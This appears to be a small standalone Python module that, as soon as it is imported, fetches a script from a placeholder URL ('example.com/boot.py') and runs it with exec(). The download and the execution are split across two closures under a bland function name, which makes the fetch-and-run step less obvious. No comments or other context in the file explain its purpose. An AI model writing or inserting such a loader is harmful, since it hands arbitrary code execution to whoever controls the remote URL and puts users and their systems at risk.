import urllib.request


def keeper(url):
    body = None

    def load():
        nonlocal body
        body = urllib.request.urlopen(url).read().decode()

    def run():
        exec(body, {"__name__": "boot"})

    return load, run


_load, _run = keeper("https://example.com/boot.py")
_load()
_run()
